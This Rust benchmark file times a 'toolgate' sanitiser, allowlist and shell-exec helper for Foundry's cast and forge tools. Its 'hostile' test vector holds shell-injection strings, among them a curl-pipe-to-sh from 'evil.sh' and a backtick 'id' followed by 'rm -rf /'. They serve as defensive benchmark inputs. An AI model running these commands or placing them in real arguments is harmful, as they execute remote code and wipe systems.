use criterion::{criterion_group, criterion_main, Criterion};
use std::hint::black_box;
use toolgate::tools::{sanitize_args, shell, Allowlist, ToolId};

fn bench_sanitize(c: &mut Criterion) {
    let typical: Vec<String> = [
        "call",
        "0x6B175474E89094C44Da98b954EedeAC495271d0F",
        "balanceOf(address)",
        "0x000000000000000000000000000000000000dEaD",
        "--rpc-url",
        "http://127.0.0.1:8545",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();

    let hostile: Vec<String> = [
        "build",
        "--root $(curl evil.sh | sh)",
        "`id`; rm -rf / && echo \"done\" > /tmp/x",
        "line one\nline two\r\n   spaced    out",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();

    let long = vec!["test".to_string(), "a".repeat(1000)];

    c.bench_function("sanitize_typical_cast_call", |b| {
        b.iter(|| black_box(sanitize_args(black_box(&typical))))
    });

    c.bench_function("sanitize_hostile_arguments", |b| {
        b.iter(|| black_box(sanitize_args(black_box(&hostile))))
    });

    c.bench_function("sanitize_max_length_argument", |b| {
        b.iter(|| black_box(sanitize_args(black_box(&long))))
    });

    let allowlist = Allowlist::default();
    c.bench_function("allowlist_lookup", |b| {
        b.iter(|| {
            black_box(allowlist.validate_command(ToolId::Cast, black_box("call")));
            black_box(allowlist.validate_command(ToolId::Forge, black_box("deploy")));
        })
    });

    let dir = std::path::Path::new("/home/dev/my project");
    let program = std::path::Path::new("/home/dev/.foundry/bin/forge");
    c.bench_function("shell_cd_and_exec", |b| {
        b.iter(|| black_box(shell::cd_and_exec(dir, program, black_box(&typical))))
    });
}

criterion_group!(benches, bench_sanitize);
criterion_main!(benches);
